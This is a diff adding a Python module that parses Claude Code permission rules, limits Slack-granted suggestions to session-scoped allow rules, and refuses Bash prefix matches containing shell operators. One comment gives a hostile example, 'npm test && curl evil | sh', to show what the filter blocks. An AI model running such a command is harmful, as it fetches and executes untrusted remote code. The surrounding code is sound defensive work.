@@ -1,0 +1,133 @@
+"""Permission rules: the SDK's suggestions, made safe, and the team allow-list.
+
+A rule is Claude Code's string form: ``Tool`` (any call of the tool) or
+``Tool(content)``. For Bash, ``prefix *`` (or the older ``prefix:*``) means
+"the command starts with prefix" and anything else means exactly that
+command. For tools with a ``file_path``, the content is a glob on the path.
+A rule this module does not understand never matches: the call is asked.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import posixpath
+import re
+from dataclasses import dataclass
+from typing import Any
+
+from claude_agent_sdk import PermissionUpdate
+from claude_agent_sdk.types import PermissionRuleValue
+
+# Shell syntax that chains, substitutes or redirects: a prefix rule must not
+# approve "npm test && curl evil | sh". Claude Code splits such commands and
+# asks for each part; this matcher simply refuses them.
+_SHELL_OPERATORS = re.compile(r"[;&|<>`\n\r]|\$\(")
+
+# Suggestions that change what the agent may do without asking again. Mode
+# changes (acceptEdits, bypassPermissions) are never taken from Slack.
+_KEPT_TYPES = ("addRules", "replaceRules", "addDirectories")
+
+
+@dataclass(frozen=True)
+class Rule:
+    tool: str
+    content: str = ""
+
+    @classmethod
+    def parse(cls, text: str) -> Rule:
+        match = re.fullmatch(r"([^()\s]+)(?:\((.*)\))?", text.strip(), flags=re.DOTALL)
+        if match is None:
+            raise ValueError(f"not a permission rule: {text!r}")
+        return cls(match.group(1), match.group(2) or "")
+
+    def __str__(self) -> str:
+        return f"{self.tool}({self.content})" if self.content else self.tool
+
+    @property
+    def id(self) -> str:
+        """Short stable id, safe for a button value."""
+        return hashlib.sha256(str(self).encode()).hexdigest()[:16]
+
+    def matches(self, tool_name: str, tool_input: dict[str, Any]) -> bool:
+        if tool_name != self.tool:
+            return False
+        if not self.content:
+            return True
+        if tool_name == "Bash":
+            command = tool_input.get("command")
+            return isinstance(command, str) and _command_matches(self.content, command.strip())
+        path = tool_input.get("file_path")
+        if isinstance(path, str) and path:
+            normal = posixpath.normpath(path)
+            return ".." not in normal.split("/") and _glob(self.content).fullmatch(normal) is not None
+        return False
+
+    def describe(self) -> str:
+        """The rule in words, for people."""
+        if not self.content:
+            return f"every {self.tool} call"
+        if self.tool == "Bash":
+            prefix = _prefix(self.content)
+            if prefix is not None:
+                return f"Bash commands starting with `{prefix}`"
+            return f"the Bash command `{self.content}`"
+        return f"{self.tool} on `{self.content}`"
+
+
+def _glob(pattern: str) -> re.Pattern[str]:
+    """``*`` and ``?`` stay within one path segment; ``**`` crosses segments."""
+    parts = re.split(r"(\*\*|\*|\?)", pattern)
+    wild = {"**": ".*", "*": "[^/]*", "?": "[^/]"}
+    return re.compile("".join(wild.get(p, re.escape(p)) for p in parts))
+
+
+def _prefix(content: str) -> str | None:
+    for suffix in (" *", ":*"):
+        if content.endswith(suffix):
+            return content[: -len(suffix)].strip()
+    return None
+
+
+def _command_matches(content: str, command: str) -> bool:
+    prefix = _prefix(content)
+    if prefix is None:
+        return command == content.strip()
+    if _SHELL_OPERATORS.search(command):
+        return False
+    return command == prefix or command.startswith(prefix + " ")
+
+
+def safe_suggestions(suggestions: list[PermissionUpdate]) -> list[dict[str, Any]]:
+    """The suggestions Slack may grant, as storable dicts, scoped to the session.
+
+    ``localSettings`` & co. would write the agent host's settings files, and a
+    ``setMode`` would stop the agent asking at all: neither is taken.
+    """
+    kept = []
+    for update in suggestions:
+        if update.type not in _KEPT_TYPES:
+            continue
+        if update.type == "addDirectories":
+            if update.directories:
+                kept.append({"type": update.type, "directories": list(update.directories)})
+            continue
+        rules = [str(Rule(r.tool_name, r.rule_content or "")) for r in update.rules or []]
+        if rules and update.behavior == "allow":
+            kept.append({"type": update.type, "rules": rules, "behavior": "allow"})
+    return kept
+
+
+def suggested_rules(stored: list[dict[str, Any]]) -> list[Rule]:
+    return [Rule.parse(r) for update in stored for r in update.get("rules", [])]
+
+
+def to_permission_updates(stored: list[dict[str, Any]]) -> list[PermissionUpdate]:
+    """Back to the SDK's type, always with ``destination="session"``."""
+    updates = []
+    for update in stored:
+        if update["type"] == "addDirectories":
+            updates.append(PermissionUpdate(type="addDirectories", directories=update["directories"], destination="session"))
+        else:
+            rules = [PermissionRuleValue(tool_name=r.tool, rule_content=r.content or None) for r in map(Rule.parse, update["rules"])]
+            updates.append(PermissionUpdate(type=update["type"], rules=rules, behavior="allow", destination="session"))
+    return updates
